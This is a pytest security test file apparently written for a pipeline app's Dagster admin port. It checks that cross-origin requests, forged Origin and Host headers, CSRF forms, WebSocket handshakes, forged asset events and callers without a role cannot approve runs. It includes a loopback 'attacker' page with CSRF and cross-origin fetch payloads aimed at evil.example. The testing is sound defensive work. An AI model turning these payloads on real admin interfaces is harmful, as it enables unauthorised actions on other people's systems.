"""Dagster's port gives no more rights than the API: other origins and callers without a role change nothing."""

import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote

import httpx
import pytest
from websockets.exceptions import InvalidHandshake
from websockets.sync.client import connect
from websockets.typing import Origin, Subprotocol

from resources.database import Database
from sisu_pipeline.console.api_client import Api
from sisu_pipeline.database_server import locate
from sisu_pipeline.proof.harness.lab_stack import LabStack, lab_stack
from tests.e2e.browser import CHROMIUM, Browser, browser
from tests.e2e.conftest import run_sisu, until
from tests.e2e.test_gate import start, status
from tests.e2e.test_gate_graphql import Dagster

GRAPHQL_WS = Subprotocol("graphql-ws")
_EVIL = "evil.example"
_JOB = (
    '{selector: {repositoryLocationName: "sisu_pipeline", repositoryName: "__repository__", '
    'jobName: "approve_plan"}, '
    'runConfigData: "{\\"ops\\": {\\"approve_plan_op\\": {\\"config\\": {\\"run_id\\": \\"%s\\", '
    '\\"decided_by\\": \\"ceo\\"}}}}"}'
)


def mutation(run: str) -> str:
    """A launch of the job that approves a run's plan, with everything in the document itself."""
    return f"mutation {{ launchRun(executionParams: {_JOB % run}) {{ __typename }} }}"


@pytest.fixture(scope="module")
def waiting(api: Api, stack_database: Database) -> str:
    """A run that waits for approval; no attack may approve it."""
    run = start(api, "Attacked at Dagster's port", {}, ["t1"])
    until(lambda: status(api, run) == ("waiting_input", "APPROVE_PLAN"), "it waits for approval")
    until(lambda: _is_suspended(stack_database, run), "Dagster has recorded its events so far")
    return run


def _is_suspended(database: Database, run: str) -> bool:
    with database.connect() as connection:
        found = connection.execute(
            "SELECT d.status FROM dagster.runs d JOIN app.runs r ON r.dagster_run_id = d.run_id WHERE r.id = %s",
            [run],
        ).fetchone()
    return found is not None and found["status"] == "SUSPENDED"


@pytest.fixture(autouse=True)
def unharmed(request: pytest.FixtureRequest, api: Api, stack_database: Database) -> Iterator[None]:
    """No attack launches a job, forges an asset event or decides."""
    before = _traces(stack_database)
    yield
    if "waiting" in request.fixturenames:
        assert _traces(stack_database) == before
        assert status(api, request.getfixturevalue("waiting")) == ("waiting_input", "APPROVE_PLAN")


def _traces(database: Database) -> list[object]:
    with database.connect() as connection:
        jobs = connection.execute("SELECT count(*) AS n FROM dagster.runs WHERE pipeline_name = 'approve_plan'")
        events = connection.execute(
            # Decisions of other tests are reported to Dagster meanwhile.
            "SELECT count(*) AS n FROM dagster.event_logs e WHERE asset_key LIKE '%plan_approval%' AND NOT EXISTS ("
            "SELECT FROM app.plan_approvals p JOIN app.runs r ON r.id = p.run_id WHERE r.workflow_id = e.partition)"
        )
        return [jobs.fetchone(), events.fetchone()]


@pytest.mark.parametrize(
    ("method", "headers"),
    [
        ("GET", {}),
        ("GET", {"Host": f"{_EVIL}:3002", "Origin": f"http://{_EVIL}"}),
        ("POST", {"Content-Type": "application/x-www-form-urlencoded"}),
        ("POST", {"Content-Type": "text/plain"}),
        ("POST", {"Content-Type": "application/json", "Origin": f"http://{_EVIL}"}),
        ("POST", {"Content-Type": "application/json", "Origin": "null"}),
        ("POST", {"Content-Type": "application/json", "Host": f"{_EVIL}:3002"}),
        ("POST", {"Content-Type": "application/json", "Sec-Fetch-Site": "cross-site"}),
        ("POST", {"Content-Type": "application/graphql"}),
    ],
)
def test_no_mutation_in_a_url_in_a_form_or_from_another_origin(
    stack: LabStack, waiting: str, method: str, headers: dict[str, str]
) -> None:
    url = f"{stack.admin_url}/graphql?query={quote(mutation(waiting))}"
    answer = httpx.request(method, url, headers=headers, trust_env=False)
    assert answer.status_code in (400, 403, 405, 415)
    if set(headers) - {"Content-Type"}:
        body = {"query": mutation(waiting)}
        answer = httpx.post(f"{stack.admin_url}/graphql", headers=headers, json=body, trust_env=False)
        assert answer.status_code == 403


@pytest.mark.parametrize("kind", ["materialization", "check", "observation"])
def test_nobody_forges_an_event_of_the_lineage(stack: LabStack, waiting: str, kind: str) -> None:
    url = f"{stack.admin_url}/report_asset_{kind}/plan_approval"
    for options in ({"params": {"partition": waiting}}, {"json": {"partition": waiting}}):
        assert httpx.post(url, trust_env=False, **options).status_code == 403  # type: ignore[arg-type]


def test_a_websocket_of_another_origin_is_refused(stack: LabStack, waiting: str) -> None:
    url = f"{stack.admin_url.replace('http', 'ws')}/graphql"
    for origin in (f"http://{_EVIL}", "null", stack.url):
        with pytest.raises(InvalidHandshake), connect(url, origin=Origin(origin), subprotocols=[GRAPHQL_WS]):
            pass
    with connect(url, origin=Origin(stack.admin_url), subprotocols=[GRAPHQL_WS]) as socket:
        socket.send('{"type": "start", "id": "1", "payload": {"query": "mutation { stopSensor { __typename } }"}}')
        assert "only subscriptions" in str(socket.recv(timeout=10))


class _Attacker(BaseHTTPRequestHandler):
    """A web page elsewhere that attacks this machine with whatever a page can send, and reports what came back."""

    page = ""
    reports: list[str]

    def do_GET(self) -> None:
        if self.path.startswith("/report/"):
            self.reports.append(unquote(self.path.removeprefix("/report/")))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def log_message(self, *arguments: object) -> None:
        """Log nothing."""


@contextmanager
def attacker(page: str) -> Iterator[tuple[int, list[str]]]:
    """Serve the page on a loopback port; the list holds what the page reports."""
    reports: list[str] = []
    handler = type("Handler", (_Attacker,), {"page": page, "reports": reports})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], reports
    finally:
        server.shutdown()
        server.server_close()


_PAGE = """<!doctype html><body><iframe name="sink"></iframe>
<form id="f" method="post" target="sink" action="{dagster}/graphql?query={query}"></form>
<form id="g" method="post" target="sink" action="{api}/runs/{run}/approve-plan" enctype="text/plain">
<input name='{{"approvedBy":"ceo","notes":"' value='"}}'></form><script>
const report = (what) => fetch("/report/" + encodeURIComponent(what));
const image = new Image();
image.onload = () => report("image loaded");
image.onerror = () => report("image error");
image.src = "{dagster}/graphql?query={query}";
document.getElementById("f").submit();
document.getElementById("g").submit();
const body = JSON.stringify({{query: {mutation}}});
const json = {{method: "POST", headers: {{"Content-Type": "application/json"}}, body}};
const reads = [
  ["{dagster}/graphql", json],
  ["{dagster}/graphql", {{...json, headers: {{"Content-Type": "text/plain"}}}}],
  ["{dagster}/server_info", {{}}],
  ["{api}/runs", {{}}],
  ["http://{evil}:{admin}/graphql", json],
  ["http://{evil}:{admin}/server_info", {{}}],
  ["http://{evil}:{port}/runs", {{}}],
];
Promise.all(reads.map(([url, options]) => fetch(url, options).then(
  async (answer) => report("read " + answer.status + " " + url + " " + await answer.text()),
  () => report("refused " + url)))).then(() => new Promise((done) => {{
    const socket = new WebSocket("ws://127.0.0.1:{admin}/graphql", "graphql-ws");
    socket.onopen = () => {{ report("socket open"); done(); }};
    socket.onerror = () => {{ report("socket error"); done(); }};
  }})).then(() => setTimeout(() => report("done"), 0));
</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_a_page_of_another_origin_in_a_real_browser_reads_and_changes_nothing(
    stack: LabStack, waiting: str, tmp_path: Path
) -> None:
    text = mutation(waiting)
    page = _PAGE.format(
        dagster=stack.admin_url,
        api=stack.url,
        run=waiting,
        evil=_EVIL,
        admin=stack.settings.admin_port,
        port=stack.settings.port,
        query=quote(text),
        mutation=repr(text),
    )
    rules = f"--host-resolver-rules=MAP {_EVIL} 127.0.0.1"
    with attacker(page) as (port, reports), browser(tmp_path, rules) as chromium:
        chromium.open(f"http://{_EVIL}:{port}/")
        until(
            lambda: "done" in reports and any(each.startswith("image") for each in reports),
            "the page has tried all",
        )
        assert not [each for each in reports if each.startswith(("read 2", "read 3"))]
        assert {"image error", "socket error"} <= set(reports)


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_dagsters_own_pages_still_work_in_a_real_browser(stack: LabStack, tmp_path: Path) -> None:
    with browser(tmp_path) as chromium:
        chromium.open(f"{stack.admin_url}/runs")
        chromium.one("body", "Runs")
        assert not [line for line in chromium.complaints() if "Refused" in line or "403" in line]


@pytest.fixture(scope="module")
def guarded() -> Iterator[tuple[LabStack, dict[str, str]]]:
    """A stack with tokens: ann may approve, olga operates, vera reads, sam submits."""
    people = {"ann": "approver", "olga": "operator", "vera": "viewer", "sam": "submitter"}
    with (
        tempfile.TemporaryDirectory(prefix="sisu-e2e-", ignore_cleanup_errors=True) as folder,
        lab_stack(Path(folder), {"OC_MODE": "replay", "SBX_MODE": "mock"}, workers=1) as running,
    ):
        made = {
            person: run_sisu(running.environment, "token", "create", person, "--role", role, "--json")
            for person, role in people.items()
        }
        yield running, {person: each.document["token"] for person, each in made.items()}


def _client(stack: LabStack, token: str | None) -> httpx.Client:
    headers = {} if token is None else {"Authorization": f"Bearer {token}"}
    return httpx.Client(base_url=stack.admin_url, headers=headers, trust_env=False, timeout=30)


@pytest.mark.parametrize(("person", "status"), [(None, 401), ("unknown", 401), ("vera", 200), ("ann", 200)])
def test_with_tokens_everyone_signs_in_to_read(
    guarded: tuple[LabStack, dict[str, str]], person: str | None, status: int
) -> None:
    stack, tokens = guarded
    with _client(stack, None if person is None else tokens.get(person, person)) as client:
        assert client.post("/graphql", json={"query": "{ version }"}).status_code == status
        assert client.get("/server_info").status_code == status


def test_a_session_signs_a_browser_in_and_ends_with_its_token(guarded: tuple[LabStack, dict[str, str]]) -> None:
    stack, _ = guarded
    made = run_sisu(stack.environment, "token", "create", "eva", "--role", "viewer", "--json").document
    with _client(stack, None) as client:
        page = client.get("/runs", headers={"Accept": "text/html"})
        assert (page.status_code, page.headers["location"]) == (303, "/sign-in")
        assert client.get("/sign-in").status_code == 200
        assert client.post("/sign-in/session", json={"token": "wrong"}).status_code == 401
        signed = client.post("/sign-in/session", json={"token": made["token"]})
        assert signed.status_code == 204
        assert made["token"] not in signed.headers["set-cookie"]
        assert client.get("/runs", headers={"Accept": "text/html"}).status_code == 200
        stolen = client.cookies[f"sisu_session_{stack.settings.port}"]
        assert (
            httpx.get(f"{stack.admin_url}/server_info", headers={"Authorization": f"Bearer {stolen}"}).status_code
            == 401
        )
        assert run_sisu(stack.environment, "token", "revoke", made["id"]).status == 0
        assert client.get("/server_info").status_code == 401


def test_a_decision_in_dagster_needs_the_role_and_carries_the_signed_in_person(
    guarded: tuple[LabStack, dict[str, str]],
) -> None:
    stack, tokens = guarded
    api = Api(stack.url, tokens["sam"])
    run = start(api, "Approved in Dagster by the person who signed in", {}, ["t1"])
    until(lambda: status(api, run) == ("waiting_input", "APPROVE_PLAN"), "it waits for approval")
    for person in ("vera", "sam", "olga"):
        with _client(stack, tokens[person]) as client:
            assert client.post("/graphql", json={"query": mutation(run)}).status_code == 403
    forged = {"key": "sisu/person", "value": "ceo"}
    dagster = Dagster(stack.admin_url, tokens["ann"])
    assert dagster.job("approve_plan", {"run_id": run, "decided_by": "ceo"}, tags=[forged]) == "SUCCESS"
    until(lambda: status(api, run)[0] == "succeeded", "it succeeds")
    assert api.get("runs", run)["decision"]["decidedBy"] == "ann"
    api.close()
    with locate(stack.settings).connect() as connection:
        tags = connection.execute(
            "SELECT DISTINCT value FROM dagster.run_tags WHERE key = 'sisu/person'"
        ).fetchall()
    assert [row["value"] for row in tags] == ["ann"]


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_a_person_signs_in_on_the_page(guarded: tuple[LabStack, dict[str, str]], tmp_path: Path) -> None:
    stack, tokens = guarded
    with browser(tmp_path) as chromium:
        chromium.open(f"{stack.admin_url}/runs")
        _sign_in(chromium, "wrong")
        chromium.one("#problem", "unknown or revoked")
        _sign_in(chromium, tokens["vera"])
        chromium.one("body", "Runs")


def _sign_in(chromium: Browser, token: str) -> None:
    chromium.type("#token", token)
    chromium.one("button", "Sign in").click()
